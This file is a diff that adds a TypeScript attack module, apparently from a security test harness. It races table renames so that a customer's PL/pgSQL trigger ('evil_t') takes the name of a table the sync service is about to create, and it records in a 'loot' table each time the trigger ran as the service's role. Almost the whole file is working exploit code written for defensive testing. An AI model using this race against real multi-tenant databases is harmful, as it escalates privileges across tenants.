@@ -1,0 +1,101 @@
+/** The customer of a writable database renames a table of theirs, with a trigger, to a name that the service is about to take. */
+import postgres from "postgres";
+import type { Random } from "../../../apps/sandbox/random";
+import { type Attack, Tally } from "../attack";
+import type { Connected, Service } from "../service";
+
+/** Changes of settings a round, each of which has the service make its table. */
+const CHANGES = 10;
+const EVERY_MS = 200;
+const WRITES = 2;
+const NAME = "_sync_history";
+const HARM = "a trigger of the customer's ran as the service";
+
+export const sqlRace: Attack = {
+  name: "sql-race",
+  finding: "S3",
+  async run(service, rounds, random) {
+    const tally = new Tally();
+    // A race that is lost is over: the name is the service's then.
+    for (let round = 0; round < rounds; round++) tally.addMany(CHANGES, await oneRace(service, random), HARM);
+    return tally;
+  },
+};
+
+/** @returns how often a trigger of the customer's ran as somebody else */
+async function oneRace(service: Service, random: Random): Promise<number> {
+  const { mallory } = service.accounts;
+  const source = await service.sourceBase("Race");
+  const key = await service.key({ [source.id]: "create" });
+  const base = await service.connect(mallory, source, { api_key: key, settings: { live: false } });
+  const racer = postgres(base.url, { max: 1, onnotice: () => {}, fetch_types: false });
+  try {
+    const { database } = await mallory.base(base.id);
+    await service.operator("database", "set-writable", database.id, "on", "--json");
+    await prepare(base);
+    let isOver = false;
+    const racing = race(racer, () => isOver);
+    for (let change = 0; change < CHANGES; change++) {
+      await mallory.change(base.id, { history: true, notify: change % 2 === 0 });
+      await Bun.sleep(EVERY_MS);
+    }
+    isOver = true;
+    await racing;
+    // What is won shows with the next change that is noted.
+    for (let write = 0; write < WRITES; write++)
+      await service
+        .call(`${source.id}/Tasks/${random.pick(source.recordIds)}`, key, {
+          method: "PATCH",
+          body: { fields: { Name: `race ${write}` } },
+        })
+        .catch(() => undefined);
+    return await winnings(base);
+  } finally {
+    await racer.end({ timeout: 1 });
+    await service.disconnect(base);
+  }
+}
+
+async function prepare({ sql, url }: Connected): Promise<void> {
+  const role = new URL(url).username;
+  await sql
+    .unsafe(`
+      create table loot (who text); grant all on loot to public;
+      create function evil_t() returns trigger language plpgsql as $$ begin
+        if current_user <> '${role}' then insert into public.loot values (current_user); end if;
+        return new; end $$;
+      create table parked (id bigint generated always as identity, seen_at timestamptz, table_name text,
+        record_id text, operation text, old jsonb, new jsonb, by text);
+      create trigger t before insert on parked for each row execute function evil_t();`)
+    .simple();
+}
+
+/**
+ * To and fro, a while at a time, so that it can be ended. It is won when the service has made its index on the customer's
+ * table, and lost when the name is the service's.
+ */
+async function race(sql: postgres.Sql, isOver: () => boolean): Promise<void> {
+  let isDecided = false;
+  while (!isOver() && !isDecided) {
+    await sql
+      .unsafe(`do $$ begin
+        for i in 1..200 loop
+          begin execute 'alter table public.parked rename to ${NAME}'; exception when others then return; end;
+          commit;
+          if exists (select from pg_indexes where indexname = '${NAME}_by_time') then return; end if;
+          begin execute 'alter table public.${NAME} rename to parked'; exception when others then return; end;
+          commit;
+        end loop; end $$`)
+      .catch(() => Bun.sleep(50));
+    const [row] = await sql<{ decided: boolean }[]>`
+      select exists (select from pg_indexes where indexname = ${`${NAME}_by_time`}) as decided`.catch(
+      () => [],
+    );
+    isDecided = row?.decided ?? false;
+  }
+}
+
+async function winnings({ sql }: Connected): Promise<number> {
+  const [row] = await sql<{ count: number }[]>`select count(*)::int as count from loot`;
+  return Math.min(row!.count, CHANGES);
+}
